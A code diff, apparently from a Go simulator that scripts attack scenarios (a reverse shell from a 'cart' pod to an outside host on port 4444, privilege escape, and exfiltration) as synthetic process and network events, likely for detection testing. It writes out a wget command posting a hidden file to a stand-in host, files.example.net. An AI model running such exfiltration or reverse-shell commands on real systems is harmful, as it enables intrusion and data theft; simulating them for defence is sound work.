@@ -19,7 +19,7 @@ func (s *story) attack(now uint64) uint64 {
 	victim := s.anyPod(s.services["cart"])
 	to := endpoint{address: outside, port: 4444}
 	return s.command(victim.server, now, "/usr/bin/python3.12", []string{"python3", "-c", reverseShell}, 0, func(p *process, now uint64) uint64 {
-		c := s.connect(p, nil, to, &now)
+		c := s.connect(p, wayTo(to), &now)
 		now = s.run(p, now, &program{exe: "/usr/bin/bash", args: []string{"bash", "-i"}, stdin: &to, does: s.takeOver})
 		c.sent, c.received = s.between(2000, 9000), s.between(200, 900)
 		return s.close(c, now)
@@ -148,8 +148,8 @@ func (s *story) escape(p *process, now uint64) uint64 {
 func (s *story) exfiltrate(shell *process, now uint64) uint64 {
 	const name = "files.example.net"
 	return s.command(shell, now, "/usr/bin/wget", []string{"wget", "-q", "--post-file=/var/tmp/.cache/out", "http://" + name + "/x"}, failure, func(p *process, now uint64) uint64 {
-		now = s.ask(p, now, name, dnsmessage.RCodeSuccess, outside)
-		c := s.connect(p, nil, endpoint{address: outside, port: 80}, &now)
+		now, _ = s.ask(p, now, name, dnsmessage.RCodeSuccess, outside)
+		c := s.connect(p, wayTo(endpoint{address: outside, port: 80}), &now)
 		c.sent = 4096 + s.between(0, 20_000)
 		return s.close(c, now+s.between(10*millisecond, 50*millisecond))
 	})
